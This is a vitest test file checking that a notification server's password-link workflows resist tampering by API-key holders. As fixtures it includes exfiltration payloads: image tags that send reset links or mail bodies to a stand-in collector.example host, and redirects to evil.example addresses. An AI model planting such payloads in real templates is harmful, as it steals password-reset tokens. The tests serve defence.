// The workflows whose mail carries a one-time password link (account created, password reset) are kept by the
// server: the management API neither changes nor deletes them, a start restores them as the product wrote them,
// and their mail is never wrapped in a layout an API key wrote, so no key holder can route the link elsewhere.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demo, management, postJson, startServer, type TestServer } from './harness.js';
import { ensureSystemWorkflows, SYSTEM_WORKFLOWS } from '../src/university/services/system-workflows.js';

let server: TestServer;
beforeAll(async () => {
  server = await startServer();
});
afterAll(() => server.stop());

async function workflow(triggerIdentifier: string) {
  return server.herald.ctx.db
    .selectFrom('workflows')
    .select(['id', 'steps', 'active'])
    .where('trigger_identifier', '=', triggerIdentifier)
    .executeTakeFirstOrThrow();
}

describe('the password-link workflows', () => {
  it.each([SYSTEM_WORKFLOWS.passwordReset, SYSTEM_WORKFLOWS.accountCreated])(
    '%s is neither changed nor deleted through the management API, and a start restores it',
    async (triggerIdentifier) => {
      const before = await workflow(triggerIdentifier);
      const changed = await management(server, 'PUT', `/workflows/${before.id}`, {
        steps: [{ type: 'email', subject: 'Reset', body: '<img src="https://collector.example/{{link}}">' }],
      });
      expect(changed).toMatchObject({
        status: 403,
        body: { statusCode: 403, message: expect.stringMatching(/one-time password links/) },
      });
      expect((await management(server, 'PUT', `/workflows/${before.id}`, { active: false })).status).toBe(
        403,
      );
      expect((await management(server, 'DELETE', `/workflows/${before.id}`)).status).toBe(403);
      expect(await workflow(triggerIdentifier)).toEqual(before);

      // Edited in the database before it was locked, it is restored on the next start.
      await server.herald.ctx.db
        .updateTable('workflows')
        .set({ steps: '[]', active: 0 })
        .where('id', '=', before.id)
        .execute();
      await ensureSystemWorkflows(server.herald.ctx);
      expect(await workflow(triggerIdentifier)).toEqual(before);
    },
  );

  it("is mailed in the built-in layout, never in the environment's default layout an API key wrote", async () => {
    const layout = await management(server, 'POST', '/layouts', {
      identifier: 'collector',
      name: 'Collector',
      content: '<img src="https://collector.example/?{{body}}">{{{body}}}',
      isDefault: true,
    });
    expect(layout.status, JSON.stringify(layout.body)).toBe(201);
    const student = demo('STUDENT');
    expect((await postJson(`${server.url}/v1/auth/forgot-password`, { email: student.email })).status).toBe(
      202,
    );

    const other = await management(server, 'POST', '/workflows', {
      name: 'Notice',
      triggerIdentifier: 'notice',
      steps: [{ type: 'email', subject: 'Notice', body: '<p>Notice</p>' }],
    });
    expect(other.status).toBe(201);
    await management(server, 'POST', '/events/trigger', {
      name: 'notice',
      to: { subscriberId: 'reader', email: 'reader@herald.test' },
      payload: {},
    });
    await server.herald.worker.drain();

    const mail = async (to: string) =>
      server.herald.ctx.db.selectFrom('outbox').select('html').where('to', '=', to).executeTakeFirstOrThrow();
    // The layout is the environment's default: other mail is wrapped in it.
    expect((await mail('reader@herald.test')).html).toContain('https://collector.example/');
    const reset = (await mail(student.email)).html;
    expect(reset).toContain('/resetpassword');
    expect(reset).not.toContain('collector.example');
  });
});

describe('API keys and the password-link workflows', () => {
  const evil = { link: 'https://evil.example/reset#token=stolen', institution: 'Herald', expiresIn: 'soon' };
  const mailsTo = async (email: string) =>
    server.herald.ctx.db.selectFrom('outbox').select('html').where('to', '=', email).execute();

  it.each([SYSTEM_WORKFLOWS.passwordReset, SYSTEM_WORKFLOWS.accountCreated])(
    '%s is refused to every trigger an API key makes, and no mail goes out',
    async (name) => {
      const student = demo('STUDENT');
      const before = (await mailsTo(student.email)).length;
      const refused = {
        status: 403,
        body: { statusCode: 403, message: expect.stringMatching(/only the server itself triggers it/) },
      };
      const attempts = [
        ['/events/trigger', { name, to: { subscriberId: 'someone', email: student.email }, payload: evil }],
        ['/events/trigger', { name, to: [{ type: 'Topic', topicKey: 'everyone' }], payload: evil }],
        [
          '/events/trigger/bulk',
          {
            events: [
              { name: 'notice-for-bulk', to: 'someone', payload: {} },
              { name, to: { subscriberId: 'someone', email: student.email }, payload: evil },
            ],
          },
        ],
        ['/events/trigger/broadcast', { name, payload: evil }],
      ] as const;
      for (const [path, body] of attempts) {
        expect(await management(server, 'POST', path, body), path).toMatchObject(refused);
      }
      await server.herald.worker.drain();
      expect(await mailsTo(student.email)).toHaveLength(before);
    },
  );

  it("never rewrites an account's subscriber: a trigger's inline address is ignored and the mail goes to the account", async () => {
    const student = demo('STUDENT');
    const account = await server.herald.ctx.db
      .selectFrom('accounts')
      .select('id')
      .where('email', '=', student.email)
      .executeTakeFirstOrThrow();
    const notice = await management(server, 'POST', '/workflows', {
      name: 'Account notice',
      triggerIdentifier: 'account-notice',
      steps: [{ type: 'email', subject: 'Notice', body: '<p>Notice</p>' }],
    });
    expect(notice.status).toBe(201);
    const sent = await management(server, 'POST', '/events/trigger', {
      name: 'account-notice',
      to: { subscriberId: String(account.id), email: 'attacker@evil.example', firstName: 'Mallory' },
      payload: {},
    });
    expect(sent.status).toBe(201);
    await server.herald.worker.drain();

    const subscriber = await management(server, 'GET', `/subscribers/${account.id}`);
    expect(subscriber.body.data).toMatchObject({ email: student.email });
    expect(await mailsTo('attacker@evil.example')).toHaveLength(0);
    // A subscriber no account owns still takes its profile from the trigger, as on the platform.
    await management(server, 'POST', '/events/trigger', {
      name: 'account-notice',
      to: { subscriberId: 'partner-7', email: 'partner@herald.test' },
      payload: {},
    });
    await server.herald.worker.drain();
    expect(await mailsTo('partner@herald.test')).toHaveLength(1);
  });
});
